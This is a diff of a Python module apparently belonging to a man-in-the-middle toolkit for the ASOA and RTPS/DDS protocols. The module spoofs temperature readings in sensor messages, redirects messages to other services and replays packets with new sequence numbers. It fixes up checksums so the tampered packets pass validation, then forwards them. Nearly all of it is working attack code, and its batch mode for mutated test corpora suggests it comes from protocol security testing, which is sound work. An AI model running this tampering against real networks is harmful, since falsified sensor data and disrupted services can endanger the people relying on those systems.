@@ -4,15 +4,33 @@ ASOA Message Modifier - Advanced ASOA Message Manipulation
 Handles ASOA-specific message modification while maintaining protocol integrity
 """
 
+import math
 import struct
 import logging
 import time
-from typing import Dict, List, Optional, Tuple, Any, Callable
-from dataclasses import dataclass
+from array import array
+from typing import Dict, Iterable, List, NamedTuple, Optional, Tuple, Any, Callable, Union
+from dataclasses import dataclass, replace
 import socket
 
-from asoa_protocol_analyzer import ASOAProtocolAnalyzer, ASOAMessageType, ASOAPacketHeader
-from ucdr_handler import UCDRHandler
+from asoa_protocol_analyzer import (
+    ASOAProtocolAnalyzer, ASOAMessageType, ASOAPacketHeader, ASOA_HEADER_SIZE, ASOA_HEADER_STRUCT, ASOA_MAGIC
+)
+from ucdr_handler import UCDRHandler, find_temperature_record, TEMPERATURE_VALUE_OFFSET
+from checksum_engine import update_checksum, update_checksum_field, write_checksum, xor_words
+from rtps_parser import is_rtps
+from callback_dispatcher import CallbackDispatcher, ModificationEvent
+from modification_history import ModificationHistory
+from rule_engine import RuleEngine
+
+# Header fields the in-place pipeline patches
+_TARGET_SERVICE_OFFSET = 8
+_SEQUENCE_OFFSET = 10
+_TIMESTAMP_OFFSET = 22
+_UINT16 = struct.Struct('<H')
+_UINT32 = struct.Struct('<I')
+_UINT64 = struct.Struct('<Q')
+_FLOAT32 = struct.Struct('<f')
 
 @dataclass
 class ModifiedMessage:
@@ -25,6 +43,31 @@ class ModifiedMessage:
     timestamp: float
     success: bool
 
+class ModifiedBatch(NamedTuple):
+    """
+    Packets of a modify_batch() call packed into one buffer, in input order.
+    Packet i is buffer[offsets[i]:offsets[i + 1]]; unmodified packets are passed through
+    with modified[i] == 0 and NaN original/new values.
+    """
+    buffer: bytearray
+    offsets: array  # 'Q', batch.count + 1 entries
+    modified: bytearray
+    original_values: array  # 'd'
+    new_values: array  # 'd'
+
+    @property
+    def count(self) -> int:
+        """
+        Number of packets in the batch
+        """
+        return len(self.offsets) - 1
+
+    def packet(self, index: int) -> memoryview:
+        """
+        Get a packet without copying it out of the buffer
+        """
+        return memoryview(self.buffer)[self.offsets[index]:self.offsets[index + 1]]
+
 class ASOAMessageModifier:
     """
     Advanced ASOA Message Modifier
@@ -35,6 +78,10 @@ class ASOAMessageModifier:
         self.logger = logger or logging.getLogger(__name__)
         self.protocol_analyzer = ASOAProtocolAnalyzer(logger)
         self.ucdr_handler = UCDRHandler(logger)
+        # Analyzer and ucdr handler see the same flows, so they share one offset cache
+        self.ucdr_handler.offset_cache = self.protocol_analyzer.offset_cache
+        self.ucdr_handler.register_topic_schemas(self.protocol_analyzer.topic_registry.schemas())
+        self._header_buffer = bytearray(ASOA_HEADER_SIZE)
         self.modification_stats = {
             'total_packets': 0,
             'modified_packets': 0,
@@ -43,12 +90,65 @@ class ASOAMessageModifier:
             'last_modification': None
         }
         self.modification_callbacks = []
+        self.batch_callbacks = []
+        self.dispatcher: Optional[CallbackDispatcher] = None
+        self.history: Optional[ModificationHistory] = None
+        self.rule_engine: Optional[RuleEngine] = None
+        self.forwarder: Optional[Callable[[bytearray], None]] = None
         
     def register_modification_callback(self, callback: Callable[[ModifiedMessage], None]):
         """
         Register callback for modification events
         """
         self.modification_callbacks.append(callback)
+        if self.dispatcher is not None:
+            self.dispatcher.register_callback(callback)
+        
+    def enable_async_callbacks(self, capacity: int = 4096, policy: str = 'drop',
+                               batch_size: int = 256) -> CallbackDispatcher:
+        """
+        Deliver modification callbacks from a worker thread instead of the packet path.
+        Callbacks then receive ModificationEvents (same field names as ModifiedMessage, without
+        the packets); when `capacity` events are queued, 'drop' discards new events and 'block'
+        waits for room.
+        """
+        if self.dispatcher is not None:
+            self.dispatcher.stop()
+        self.dispatcher = CallbackDispatcher(capacity, policy, batch_size, self.logger)
+        for callback in self.modification_callbacks:
+            self.dispatcher.register_callback(callback)
+        self.dispatcher.start()
+        return self.dispatcher
+    
+    def enable_history(self, capacity: int = 4096, max_packet_size: int = 1024) -> ModificationHistory:
+        """
+        Keep the last `capacity` modifications, packets included, in a fixed-size history
+        """
+        self.history = ModificationHistory(capacity, max_packet_size, self.logger)
+        return self.history
+    
+    def load_rules(self, path: str) -> int:
+        """
+        Load declarative modification rules applied by the 'rules' attack type; returns the rule count
+        """
+        analyzer = self.protocol_analyzer
+        self.rule_engine = RuleEngine(analyzer.topic_registry, analyzer.known_services, analyzer.topic_locator,
+                                      logger=self.logger)
+        return self.rule_engine.load(path)
+    
+    def close(self):
+        """
+        Deliver queued callback events and stop the dispatcher thread
+        """
+        if self.dispatcher is not None:
+            self.dispatcher.stop()
+            self.dispatcher = None
+        
+    def register_batch_callback(self, callback: Callable[[ModifiedBatch], None]):
+        """
+        Register callback receiving each modify_batch() result once
+        """
+        self.batch_callbacks.append(callback)
         
     def modify_asoa_packet(self, packet: bytes, attack_type: str, **kwargs) -> Optional[bytes]:
         """
@@ -72,6 +172,9 @@ class ASOAMessageModifier:
                 modified_packet, original_value, new_value = self._modify_temperature(
                     packet, analysis, kwargs.get('target_temperature', 99.9)
                 )
+            elif analysis['header'] is None and attack_type in ('service-disrupt', 'message-replay', 'rules'):
+                # RTPS messages carry no ASOA service header to rewrite
+                self.logger.warning(f"{attack_type} is not supported for {analysis.get('protocol', 'unknown')} messages")
             elif attack_type == 'service-disrupt':
                 modified_packet, original_value, new_value = self._disrupt_service(
                     packet, analysis, kwargs.get('target_service')
@@ -80,6 +183,12 @@ class ASOAMessageModifier:
                 modified_packet, original_value, new_value = self._prepare_replay(
                     packet, analysis, kwargs.get('replay_count', 1)
                 )
+            elif attack_type == 'rules':
+                buffer = bytearray(packet)
+                values = self._patch_asoa_in_place(buffer, attack_type, kwargs)
+                if values is not None:
+                    modified_packet = bytes(buffer)
+                    original_value, new_value = values
             else:
                 self.logger.error(f"Unknown attack type: {attack_type}")
                 return None
@@ -101,13 +210,21 @@ class ASOAMessageModifier:
                 )
                 
                 self.modification_stats['last_modification'] = modification
+                if self.history is not None:
+                    self.history.record(attack_type, original_value, new_value, modification.timestamp,
+                                        packet, modified_packet)
                 
                 # Notify callbacks
-                for callback in self.modification_callbacks:
-                    try:
-                        callback(modification)
-                    except Exception as e:
-                        self.logger.error(f"Callback error: {e}")
+                if self.dispatcher is not None:
+                    self.dispatcher.submit(ModificationEvent(
+                        attack_type, original_value, new_value, modification.timestamp, len(modified_packet)
+                    ))
+                else:
+                    for callback in self.modification_callbacks:
+                        try:
+                            callback(modification)
+                        except Exception as e:
+                            self.logger.error(f"Callback error: {e}")
                 
                 self.logger.info(f"Successfully modified ASOA packet: {attack_type}")
                 return modified_packet
@@ -121,6 +238,241 @@ class ASOAMessageModifier:
             self.modification_stats['failed_modifications'] += 1
             return None
     
+    def set_forwarder(self, forwarder: Optional[Callable[[bytearray], None]]):
+        """
+        Set the callable modify_in_place() hands every processed buffer to
+        """
+        self.forwarder = forwarder
+    
+    def modify_in_place(self, buffer: Union[bytearray, memoryview], attack_type: str, **kwargs) -> bool:
+        """
+        Pipeline mode: patch the packet held in a writable buffer in place.
+        Header and payload fields are overwritten where they are and folded into the checksum
+        incrementally, without packet copies or header objects; the same buffer, modified or
+        not, is then handed to the forwarder. Returns True if the packet was modified.
+        Synchronous callbacks still get a ModifiedMessage, whose packet copies are only made when
+        one is registered; with async callbacks only a compact event is queued.
+        With a history enabled, the packet is copied into its arena before being patched.
+        """
+        modified = False
+        try:
+            self.modification_stats['total_packets'] += 1
+            original_packet = bytes(buffer) if self.modification_callbacks and self.dispatcher is None else None
+            original_length = self.history.stage(buffer) if self.history is not None else 0
+            
+            if is_rtps(buffer):
+                values = self._patch_rtps_in_place(buffer, attack_type, kwargs)
+            else:
+                values = self._patch_asoa_in_place(buffer, attack_type, kwargs)
+            
+            if values is None:
+                self.modification_stats['failed_modifications'] += 1
+            else:
+                modified = True
+                self.modification_stats['modified_packets'] += 1
+                if attack_type == 'temperature-spoof':
+                    self.modification_stats['temperature_modifications'] += 1
+                timestamp = time.time()
+                if self.history is not None:
+                    self.history.commit(attack_type, values[0], values[1], timestamp, buffer, original_length)
+                if self.dispatcher is not None:
+                    self.dispatcher.submit(ModificationEvent(attack_type, values[0], values[1], timestamp, len(buffer)))
+                elif original_packet is not None:
+                    modification = ModifiedMessage(
+                        original_packet=original_packet,
+                        modified_packet=bytes(buffer),
+                        modification_type=attack_type,
+                        original_value=values[0],
+                        new_value=values[1],
+                        timestamp=timestamp,
+                        success=True
+                    )
+                    self.modification_stats['last_modification'] = modification
+                    for callback in self.modification_callbacks:
+                        try:
+                            callback(modification)
+                        except Exception as e:
+                            self.logger.error(f"Callback error: {e}")
+                            
+        except Exception as e:
+            self.logger.error(f"Error modifying ASOA packet in place: {e}")
+            self.modification_stats['failed_modifications'] += 1
+        
+        if self.forwarder is not None:
+            self.forwarder(buffer)
+        return modified
+    
+    def modify_batch(self, packets: Union[Iterable[bytes], bytes, bytearray, memoryview], attack_type: str,
+                     offsets: Optional[Iterable[int]] = None, **kwargs) -> ModifiedBatch:
+        """
+        Modify a corpus of packets in one call, for generating mutated test corpora.
+        `packets` is an iterable of packets, or a packed buffer with `offsets` holding every
+        packet start plus the final end. Packets are copied once into the result buffer and
+        patched there in place; per-packet callbacks are not invoked, batch callbacks get the
+        result once.
+        """
+        if offsets is not None:
+            offsets = array('Q', offsets)
+            base = offsets[0]
+            with memoryview(packets) as view:
+                buffer = bytearray(view[base:offsets[-1]])
+            if base:
+                offsets = array('Q', (offset - base for offset in offsets))
+        else:
+            buffer = bytearray()
+            offsets = array('Q', [0])
+            for packet in packets:
+                buffer += packet
+                offsets.append(len(buffer))
+        
+        count = len(offsets) - 1
+        batch = ModifiedBatch(buffer, offsets, bytearray(count), array('d', [math.nan]) * count,
+                              array('d', [math.nan]) * count)
+        
+        # Resolve arguments once for the whole batch
+        kwargs = dict(kwargs)
+        if 'target_service' in kwargs:
+            kwargs['target_service'] = self._resolve_service_id(kwargs['target_service'])
+        
+        view = memoryview(buffer)
+        modified = 0
+        for index in range(count):
+            packet = view[offsets[index]:offsets[index + 1]]
+            try:
+                if is_rtps(packet):
+                    values = self._patch_rtps_in_place(packet, attack_type, kwargs)
+                else:
+                    values = self._patch_asoa_in_place(packet, attack_type, kwargs)
+            except Exception as e:
+                self.logger.debug(f"Batch packet {index} not modified: {e}")
+                values = None
+            finally:
+                packet.release()
+            if values is not None:
+                modified += 1
+                batch.modified[index] = 1
+                batch.original_values[index], batch.new_values[index] = values
+        view.release()
+        
+        self.modification_stats['total_packets'] += count
+        self.modification_stats['modified_packets'] += modified
+        self.modification_stats['failed_modifications'] += count - modified
+        if attack_type == 'temperature-spoof':
+            self.modification_stats['temperature_modifications'] += modified
+        
+        for callback in self.batch_callbacks:
+            try:
+                callback(batch)
+            except Exception as e:
+                self.logger.error(f"Batch callback error: {e}")
+        
+        self.logger.info(f"Batch {attack_type}: modified {modified} of {count} packets")
+        return batch
+    
+    def _patch_asoa_in_place(self, buffer: Union[bytearray, memoryview], attack_type: str,
+                             kwargs: Dict[str, Any]) -> Optional[Tuple[Any, Any]]:
+        """
+        Patch an ASOA packet's fields in place; returns (original value, new value) or None
+        """
+        if len(buffer) < ASOA_HEADER_SIZE:
+            return None
+        (magic, _, message_type, service_id, target_service_id, sequence_number,
+         payload_length, checksum, timestamp) = ASOA_HEADER_STRUCT.unpack_from(buffer)
+        if magic != ASOA_MAGIC:
+            return None
+        
+        if attack_type == 'temperature-spoof':
+            end = ASOA_HEADER_SIZE + payload_length
+            if end > len(buffer):
+                return None
+            # Same flow key as the analyzer, so both share the cached record offsets
+            payload = memoryview(buffer)[ASOA_HEADER_SIZE:end]
+            record_offset = self.protocol_analyzer.offset_cache.locate(
+                payload, (service_id, message_type, payload_length), find_temperature_record
+            )
+            payload.release()
+            if record_offset is None:
+                return None
+            value_offset = ASOA_HEADER_SIZE + record_offset + TEMPERATURE_VALUE_OFFSET
+            if value_offset + 4 > end:
+                return None
+            target_temp = kwargs.get('target_temperature', 99.9)
+            old_bits = _UINT32.unpack_from(buffer, value_offset)[0]
+            original_value = _FLOAT32.unpack_from(buffer, value_offset)[0]
+            _FLOAT32.pack_into(buffer, value_offset, target_temp)
+            checksum = update_checksum_field(checksum, value_offset, old_bits, _UINT32.unpack_from(buffer, value_offset)[0])
+            values = (original_value, target_temp)
+        
+        elif attack_type == 'service-disrupt':
+            new_target = self._resolve_service_id(kwargs.get('target_service'))
+            if new_target is None:
+                self.logger.warning(f"Target service not found: {kwargs.get('target_service')}")
+                return None
+            _UINT16.pack_into(buffer, _TARGET_SERVICE_OFFSET, new_target)
+            checksum = update_checksum_field(checksum, _TARGET_SERVICE_OFFSET, target_service_id, new_target)
+            values = (target_service_id, new_target)
+        
+        elif attack_type == 'message-replay':
+            new_sequence = (sequence_number + kwargs.get('replay_count', 1)) & 0xFFFFFFFF
+            new_timestamp = int(time.time() * 1000000)
+            _UINT32.pack_into(buffer, _SEQUENCE_OFFSET, new_sequence)
+            _UINT64.pack_into(buffer, _TIMESTAMP_OFFSET, new_timestamp)
+            checksum = update_checksum_field(checksum, _SEQUENCE_OFFSET, sequence_number, new_sequence)
+            checksum = update_checksum_field(checksum, _TIMESTAMP_OFFSET, timestamp, new_timestamp)
+            values = (sequence_number, new_sequence)
+        
+        elif attack_type == 'rules':
+            if self.rule_engine is None:
+                self.logger.error("No modification rules loaded")
+                return None
+            result = self.rule_engine.apply(buffer, service_id, target_service_id, message_type,
+                                            payload_length, checksum)
+            if result is None:
+                return None
+            checksum, values = result[0], result[1:]
+        
+        else:
+            self.logger.error(f"Unknown attack type: {attack_type}")
+            return None
+        
+        write_checksum(buffer, checksum)
+        return values
+    
+    def _patch_rtps_in_place(self, buffer: Union[bytearray, memoryview], attack_type: str,
+                             kwargs: Dict[str, Any]) -> Optional[Tuple[Any, Any]]:
+        """
+        Patch the temperature of an RTPS DATA sample in place (RTPS has no message checksum)
+        """
+        if attack_type != 'temperature-spoof':
+            self.logger.warning(f"{attack_type} is not supported for rtps messages")
+            return None
+        analysis = self.protocol_analyzer.analyze_rtps_packet(buffer)
+        if not analysis or 'temperature_sample' not in analysis:
+            return None
+        samples = analysis['rtps'].samples
+        if analysis['temperature_sample'] >= len(samples):
+            return None
+        sample = samples[analysis['temperature_sample']]
+        start = sample.payload_offset
+        target_temp = kwargs.get('target_temperature', 99.9)
+        payload = memoryview(buffer)[start:start + len(sample.payload)]
+        patched = self.ucdr_handler.patch_temperature_in_ucdr(payload, target_temp)
+        payload.release()
+        if patched is None:
+            return None
+        return analysis['temperature_data'].temperature_value, target_temp
+    
+    def _resolve_service_id(self, service: Union[str, int, None]) -> Optional[int]:
+        """
+        Service ID of a service name (or an ID passed through)
+        """
+        if isinstance(service, int):
+            return service
+        for service_id, name in self.protocol_analyzer.known_services.items():
+            if name == service:
+                return service_id
+        return None
+    
     def _modify_temperature(self, packet: bytes, analysis: Dict[str, Any], target_temp: float) -> Tuple[Optional[bytes], Any, Any]:
         """
         Modify temperature data in ASOA packet
@@ -137,14 +489,43 @@ class ASOAMessageModifier:
                 # Modify the temperature in the payload
                 header = analysis['header']
                 payload = analysis['payload']
+                if header is None:
+                    return self._modify_rtps_temperature(packet, analysis, target_temp)
+                
+                # Patch the temperature in a copy of the packet and fold the changed
+                # bytes into the existing checksum instead of recomputing it
+                buffer = bytearray(ASOA_HEADER_SIZE + len(payload))
+                header.pack_into(buffer)
+                buffer[ASOA_HEADER_SIZE:] = payload
+                # Patch inside the record the analyzer located, not at the schema's offset 0 layout
+                record_offset = self.ucdr_handler.offset_cache.locate(
+                    payload, analysis.get('flow_key'), find_temperature_record
+                )
+                value_offset = None
+                if record_offset is not None:
+                    value_offset = self.ucdr_handler.patch_temperature_in_ucdr(
+                        memoryview(buffer)[ASOA_HEADER_SIZE:], target_temp, record_offset=record_offset
+                    )
                 
-                # Modify temperature in ucdr payload
-                modified_payload = self.ucdr_handler.modify_temperature_in_ucdr(payload, target_temp)
+                if value_offset is not None:
+                    packet_offset = ASOA_HEADER_SIZE + value_offset
+                    checksum = update_checksum(
+                        header.checksum, packet_offset,
+                        payload[value_offset:value_offset + 4], buffer[packet_offset:packet_offset + 4]
+                    )
+                    write_checksum(buffer, checksum)
+                    modified_packet = bytes(buffer)
+                else:
+                    # Layout not recognized: raw search, then a full checksum pass
+                    modified_payload = self.ucdr_handler.modify_temperature_in_ucdr(
+                        payload, target_temp, analysis.get('flow_key')
+                    )
+                    if modified_payload:
+                        modified_header = replace(header)
+                        modified_header.checksum = self._calculate_packet_checksum(modified_header, modified_payload)
+                        modified_packet = self._reconstruct_packet(modified_header, modified_payload)
                 
-                if modified_payload:
-                    # Reconstruct packet with modified payload
-                    modified_packet = self._reconstruct_packet(header, modified_payload)
-                    
+                if modified_packet:
                     self.logger.info(f"Temperature modified: {original_temp}°C -> {target_temp}°C")
                     return modified_packet, original_temp, target_temp
             
@@ -162,6 +543,31 @@ class ASOAMessageModifier:
             self.logger.error(f"Error modifying temperature: {e}")
             return None, None, None
     
+    def _modify_rtps_temperature(self, packet: bytes, analysis: Dict[str, Any], target_temp: float) -> Tuple[Optional[bytes], Any, Any]:
+        """
+        Modify temperature data in the DATA sample of an RTPS message.
+        RTPS has no message checksum; the UDP checksum is recomputed when the datagram is rebuilt.
+        """
+        original_temp = analysis['temperature_data'].temperature_value
+        samples = analysis['rtps'].samples
+        if analysis['temperature_sample'] >= len(samples):
+            # Reassembled from fragments of earlier datagrams: nothing in this one to patch
+            self.logger.warning("Temperature sample was reassembled from fragments; not modified")
+            return None, None, None
+        sample = samples[analysis['temperature_sample']]
+        start = sample.payload_offset
+        end = start + len(sample.payload)
+        
+        buffer = bytearray(packet)
+        if self.ucdr_handler.patch_temperature_in_ucdr(memoryview(buffer)[start:end], target_temp) is None:
+            modified_payload = self.ucdr_handler.modify_temperature_in_ucdr(bytes(sample.payload), target_temp)
+            if not modified_payload:
+                return None, None, None
+            buffer[start:end] = modified_payload
+        
+        self.logger.info(f"Temperature modified (RTPS): {original_temp}°C -> {target_temp}°C")
+        return bytes(buffer), original_temp, target_temp
+    
     def _disrupt_service(self, packet: bytes, analysis: Dict[str, Any], target_service: str) -> Tuple[Optional[bytes], Any, Any]:
         """
         Disrupt ASOA service communication
@@ -249,33 +655,9 @@ class ASOAMessageModifier:
         Reconstruct ASOA packet from header and payload
         """
         try:
-            # Create packet buffer
-            packet_size = 32 + len(payload)  # Header + payload
-            packet = bytearray(packet_size)
-            
-            # Write header
-            offset = 0
-            packet[offset:offset+4] = header.magic
-            offset += 4
-            packet[offset] = header.version
-            offset += 1
-            packet[offset] = header.message_type.value
-            offset += 1
-            struct.pack_into('<H', packet, offset, header.service_id)
-            offset += 2
-            struct.pack_into('<H', packet, offset, header.target_service_id)
-            offset += 2
-            struct.pack_into('<I', packet, offset, header.sequence_number)
-            offset += 4
-            struct.pack_into('<I', packet, offset, header.payload_length)
-            offset += 4
-            struct.pack_into('<I', packet, offset, header.checksum)
-            offset += 4
-            struct.pack_into('<Q', packet, offset, header.timestamp)
-            offset += 8
-            
-            # Write payload
-            packet[32:32+len(payload)] = payload
+            packet = bytearray(ASOA_HEADER_SIZE + len(payload))
+            header.pack_into(packet)
+            packet[ASOA_HEADER_SIZE:] = payload
             
             return bytes(packet)
             
@@ -288,33 +670,12 @@ class ASOAMessageModifier:
         Calculate ASOA packet checksum
         """
         try:
-            # Create data for checksum calculation (header without checksum + payload)
-            header_data = bytearray(32)
-            offset = 0
-            
-            header_data[offset:offset+4] = header.magic
-            offset += 4
-            header_data[offset] = header.version
-            offset += 1
-            header_data[offset] = header.message_type.value
-            offset += 1
-            struct.pack_into('<H', header_data, offset, header.service_id)
-            offset += 2
-            struct.pack_into('<H', header_data, offset, header.target_service_id)
-            offset += 2
-            struct.pack_into('<I', header_data, offset, header.sequence_number)
-            offset += 4
-            struct.pack_into('<I', header_data, offset, header.payload_length)
-            offset += 4
-            # Skip checksum field (4 bytes)
-            offset += 4
-            struct.pack_into('<Q', header_data, offset, header.timestamp)
-            offset += 8
-            
-            # Combine header and payload for checksum
-            checksum_data = bytes(header_data) + payload
+            # Header without checksum, packed into the reused header buffer, then the payload
+            header_data = self._header_buffer
+            header.pack_into(header_data)
+            write_checksum(header_data, 0)
             
-            return self.protocol_analyzer._calculate_checksum(checksum_data)
+            return xor_words(header_data) ^ xor_words(payload, ASOA_HEADER_SIZE)
             
         except Exception as e:
             self.logger.error(f"Error calculating checksum: {e}")
@@ -360,6 +721,15 @@ class ASOAMessageModifier:
         Get modification statistics
         """
         stats = self.modification_stats.copy()
+        cache_stats = self.protocol_analyzer.get_offset_cache_stats()
+        stats['offset_cache_hits'] = cache_stats['hits']
+        stats['offset_cache_misses'] = cache_stats['misses']
+        if self.dispatcher is not None:
+            stats['callback_dispatch'] = self.dispatcher.get_stats()
+        if self.history is not None:
+            stats['history'] = self.history.get_stats()
+        if self.rule_engine is not None:
+            stats['rules'] = self.rule_engine.get_stats()
         if stats['last_modification']:
             stats['last_modification'] = {
                 'type': stats['last_modification'].modification_type,
@@ -380,3 +750,5 @@ class ASOAMessageModifier:
             'failed_modifications': 0,
             'last_modification': None
         }
+        self.protocol_analyzer.offset_cache.hits = 0
+        self.protocol_analyzer.offset_cache.misses = 0